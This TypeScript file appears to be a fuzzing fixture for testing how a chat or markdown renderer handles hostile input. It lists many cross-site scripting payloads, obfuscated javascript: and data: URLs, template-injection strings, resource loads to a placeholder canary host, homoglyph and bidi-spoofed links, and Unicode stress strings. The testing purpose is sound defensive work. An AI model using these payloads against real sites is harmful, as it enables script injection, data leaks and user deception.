/** Where nothing of ours leads: a request there was made by what somebody wrote. */
export const canary = 'canary.example';

/** Right to left, so that what is not isolated would drag its neighbours along. */
export const turning = 'שלום عالم';

const run = 'document.title=1';
const leak = `https://${canary}/x`;

/** Markup, each with a script in it that would show in the title, and mutations that browsers are known to repair into something else. */
const markup = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=${leak}.js></script>`,
  `<scr<script>ipt>${run}</script>`,
  `"><script>${run}</script>`,
  `'><svg/onload=${run}>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${leak}.png">`,
  `<img srcset="${leak}.png 1x">`,
  `<img/src/onerror=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload='${run}'/>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="${leak}.swf"></object>`,
  `<embed src="${leak}.swf">`,
  `<link rel=stylesheet href="${leak}.css">`,
  `<style>@import '${leak}.css'; *{background:url(${leak}.png)}</style>`,
  `<base href="https://${canary}/">`,
  `<meta http-equiv=refresh content="0;url=${leak}">`,
  `<form action="${leak}"><button>Send</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>a</marquee>`,
  `<a href="javascript:${run}">a</a>`,
  `<div style="position:fixed;inset:0;background:url(${leak}.png)">a</div>`,
  `<dialog open><button popovertarget=x onclick=${run}>a</button></dialog>`,
  `<xss contenteditable onbeforeinput=${run}>a</xss>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `\u2028<script>${run}</script>\u2029`,
  `＜script＞${run}＜/script＞`,
  `<img src=\`x\` onerror=${run}>`,
];

/** Addresses that must not become a link, or must lead exactly where they say. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `blob:${leak}`,
  `file:///etc/passwd`,
  `//${canary}/`,
  `\\\\${canary}\\x`,
  `https:${canary}`,
  `https://bank.example@${canary}/`,
  `https://${canary}/\u202egpj.exe`,
  `https://\u0440\u0430ypal.example/`,
  `https://${canary}/"onmouseover=${run}//`,
  `https://${canary}/<script>${run}</script>`,
];

/** How a text can make a link, a picture, a quote or a mark of something. */
const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `**${inner}**`,
  (inner) => `> ${inner}`,
  (inner) => `- ${inner}`,
  (inner) => `\`\`\`html\n${inner}\n\`\`\``,
];
const links: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `[a](${url}) *b*`,
  (url) => `![a](${url}) *b*`,
  (url) => `<${url}> *b*`,
  (url) => `[a]: ${url}\n\n[a] *b*`,
  (url) => `**${url}** ~~${url}~~`,
];

const bidi = ['\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
const invisible = [
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u180e',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u2063',
  '\ufe0f',
  '\ufeff',
  '\u{e0041}',
  '\u3164',
];
const zalgo = (text: string, marks: number) => [...text].map((letter) => letter + '\u0300\u0316\u0489\u035f\u0315'.repeat(marks)).join('');

/** What is hard to set: turned, invisible, stacked, endless. */
const shapes = [
  ...bidi.map((mark) => `turned ${mark}${turning} 123 (abc)`),
  ...bidi.map((mark) => `${mark.repeat(50)}fifty`),
  ...invisible.map((mark) => `in${mark.repeat(200)}visible`),
  ...invisible.map((mark) => `${mark}${turning}${mark}`),
  ...[1, 10, 60].map((marks) => zalgo('kōrero', marks)),
  `a${'\u0301'.repeat(900)}`,
  'x'.repeat(4_000),
  `${'あ'.repeat(3_990)}`,
  'W'.repeat(500),
  '_'.repeat(500),
  `https://example.nz/${'a'.repeat(1_900)}`,
  '👨‍👩‍👧‍👦'.repeat(500),
  '🏴󠁧󠁢󠁳󠁣󠁴󠁿'.repeat(200),
  '🧑🏿‍🚀\u200d'.repeat(200),
  '𝕂𝕠̄'.repeat(300),
  '﷽'.repeat(300),
  '𒐫'.repeat(300),
  '🇳🇿'.repeat(300),
  'ﷺ ⸻ ꧅ ဪ',
  '\u{1d173}'.repeat(100),
  `${'\t'.repeat(500)}tabs`,
  `lines${'\n'.repeat(500)}end`,
  `${'> '.repeat(400)}deep`,
  `${'- '.repeat(400)}deep`,
  `${'*'.repeat(1_000)}a${'*'.repeat(1_000)}`,
  `${'['.repeat(1_500)}a${']'.repeat(1_500)}`,
  `${'`'.repeat(999)}a`,
  `| a | b |\n|---|---|\n${'| x | y |\n'.repeat(100)}`,
  `#${'#'.repeat(300)} head`,
  `@${'a'.repeat(600)} @here @everyone`,
];

/** More than five hundred things people write to break a page. Each fits into a message. */
export const corpus: readonly string[] = [
  ...markup.flatMap((each) => wrappers.map((wrap) => wrap(each))),
  ...addresses.flatMap((each) => links.map((link) => link(each))),
  ...shapes,
  ...shapes.slice(0, 60).map((each) => `**${[...each].slice(0, 3_000).join('')}**`),
];

/** The same in what holds at most eighty characters: names of people, groups and rooms. */
export const names: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}> ${turning}`,
  `${turning} 123 (abc) <b>`,
  zalgo('Kōrero', 2),
  'W'.repeat(80),
  `</title><script>${run}</script>`,
  `javascript:${run} ${turning}`,
  '👨‍👩‍👧‍👦'.repeat(11),
  `[a](javascript:${run}) **b**`,
  `{{7*7}} \${7*7} ${turning}`,
];
